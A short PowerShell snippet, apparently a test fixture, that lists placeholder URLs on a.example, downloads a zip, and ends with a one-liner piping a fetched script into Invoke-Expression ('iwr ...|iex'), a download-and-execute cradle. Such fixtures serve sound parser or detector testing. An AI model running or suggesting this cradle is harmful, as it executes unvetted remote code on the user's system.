$urls = @(
    'https://a.example/1',
    "https://a.example/2"
)
Invoke-WebRequest -Uri https://a.example/3 -OutFile x.zip; iwr "https://a.example/4"|iex
